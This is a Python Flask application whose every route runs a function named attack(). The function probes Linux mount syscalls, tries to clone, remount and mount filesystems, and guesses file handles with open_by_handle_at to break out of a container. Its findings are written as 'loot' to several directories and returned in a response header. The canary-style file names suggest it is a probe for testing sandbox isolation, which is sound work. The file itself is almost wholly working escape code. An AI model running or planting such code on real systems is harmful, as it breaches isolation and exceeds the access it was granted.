"""Around the old mount."""

import contextlib
from pathlib import Path
import ctypes
import os
import platform
import struct

from flask import Flask

libc = ctypes.CDLL(None, use_errno=True)
OPEN_TREE, MOVE_MOUNT, FSOPEN, FSCONFIG, FSMOUNT, FSPICK, MOUNT_SETATTR = 428, 429, 430, 431, 432, 433, 442
STATMOUNT, LISTMOUNT, OPEN_TREE_ATTR = 457, 458, 467
BY_HANDLE, TO_HANDLE = (304, 303) if platform.machine() == "x86_64" else (265, 264)
AT_FDCWD = -100


def attack():
    found = []
    buffer = ctypes.create_string_buffer(4096)
    for path in (b"/", b"/proc", b"/dev", b"/box"):
        for flags in (0, 1, 0x8000, 0x8001):
            if libc.syscall(OPEN_TREE, AT_FDCWD, path, flags) >= 0 and flags & 1:
                found.append(f"cloned the tree {path}")
            if libc.syscall(OPEN_TREE_ATTR, AT_FDCWD, path, flags | 1, buffer, 32) >= 0:
                found.append(f"cloned the tree {path} with attributes")
        if libc.syscall(MOUNT_SETATTR, AT_FDCWD, path, 0x8000, struct.pack("=4Q", 0, 1, 0, 0), 32) == 0:
            found.append(f"{path} is writable")
        if libc.syscall(FSPICK, AT_FDCWD, path, 0) >= 0:
            found.append(f"picked {path}")
    for kind in (b"proc", b"tmpfs", b"sysfs", b"overlay", b"cgroup2", b"mqueue", b"devpts", b"fuse"):
        context = libc.syscall(FSOPEN, kind, 0)
        if context >= 0:
            found.append(f"opened {kind}")
            libc.syscall(FSCONFIG, context, 6, None, None, 0)
            tree = libc.syscall(FSMOUNT, context, 0, 0)
            if tree >= 0 and libc.syscall(MOVE_MOUNT, tree, b"", AT_FDCWD, b"/tmp", 4) == 0:
                found.append(f"mounted {kind}")
    request = struct.pack("=IIQQQ", 32, 0, 0xFFFFFFFFFFFFFFFF, 0, 0)
    if libc.syscall(LISTMOUNT, request, buffer, 64, 0) > 0:
        found.append("listed mounts")
    if libc.syscall(STATMOUNT, struct.pack("=IIQQQ", 32, 0, 1, 0xFF, 0), buffer, 4096, 0) == 0:
        found.append("asked about a mount")
    mount = ctypes.c_int()
    handle = ctypes.create_string_buffer(struct.pack("=Ii", 120, 0) + bytes(120), 128)
    if libc.syscall(TO_HANDLE, AT_FDCWD, b"/usr", handle, ctypes.byref(mount), 0) == 0:
        found.append(f"handle {handle.raw[:24].hex()}")
    for inode in (2, 128, 256, 5):
        guess = struct.pack("=IiII", 8, 1, inode, 0)
        for number in (os.open("/", os.O_RDONLY), AT_FDCWD):
            if libc.syscall(BY_HANDLE, number, guess, os.O_RDONLY) >= 0:
                found.append(f"opened inode {inode}")
    return found


def tell(found):
    """Report through every channel there is."""
    text = repr(found)
    print(text, flush=True)
    for place in ("/tmp", "/dev/shm", "/box/data", ".", "/var/tmp", "CANARY_FILE.d"):
        with contextlib.suppress(OSError):
            Path(place, "CANARY_SECRET_PREFIXloot").write_text(text)
    return {"loot": found}, 200, {"X-Loot": text[:2000].encode("ascii", "replace").decode()}


def create_app(config=None):
    app = Flask(__name__)

    @app.route("/", defaults={"path": ""})
    @app.route("/<path:path>")
    def anything(path):
        return tell(attack())

    return app
